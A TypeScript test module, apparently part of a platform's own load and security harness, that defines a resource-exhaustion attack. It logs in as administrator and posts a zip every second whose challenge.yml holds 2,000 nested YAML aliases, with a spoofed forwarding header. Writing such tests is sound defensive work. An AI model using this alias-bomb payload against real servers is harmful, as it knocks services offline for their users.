import { strToU8, zipSync } from 'fflate';
import { ADMINISTRATOR } from '../../load/site.ts';
import type { Attack } from './attack.ts';

const PER_SECOND = 1;
const ALIASES = 2000;

/** An administrator imports a package whose YAML takes a parser many seconds. */
export const IMPORTS: Attack = {
  title: `${PER_SECOND} import a second of ${ALIASES} nested aliases`,
  env: {
    ...ADMINISTRATOR,
    RATE_LIMIT_ADDRESS_FACTOR: '1000000',
    RATE_LIMIT_USER_FACTOR: '1000000',
  },
  async prepare({ server: { url } }) {
    const answer = await fetch(`${url}/api/account/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.12' },
      body: JSON.stringify({
        userName: ADMINISTRATOR.ADMIN_EMAIL,
        password: ADMINISTRATOR.ADMIN_PASSWORD,
      }),
    });
    if (answer.status !== 200) throw new Error(`The sign-in was answered with ${answer.status}.`);
    const cookies = answer.headers.getSetCookie().map((each) => each.split(';')[0]);
    return { cookie: cookies.join('; ') };
  },
  generate(url, { cookie = '' }) {
    const aliases = Array.from(
      { length: ALIASES },
      (_, at) => `k${at}: &a${at} [*a${Math.max(at - 1, 0)}]\n`,
    );
    const yaml = `name: Knots\ncategory: misc\nvalue: 100\n${aliases.join('')}`;
    const content = zipSync({ 'knots/challenge.yml': strToU8(yaml) });
    const headers = { cookie, 'x-forwarded-for': '203.0.113.12' };
    setInterval(() => {
      const body = new FormData();
      body.append('file', new Blob([new Uint8Array(content)]), 'knots.zip');
      const sent = fetch(`${url}/api/edit/games/import`, { method: 'POST', headers, body });
      sent.then((answer) => answer.arrayBuffer()).catch(() => undefined);
    }, 1000 / PER_SECOND);
  },
};
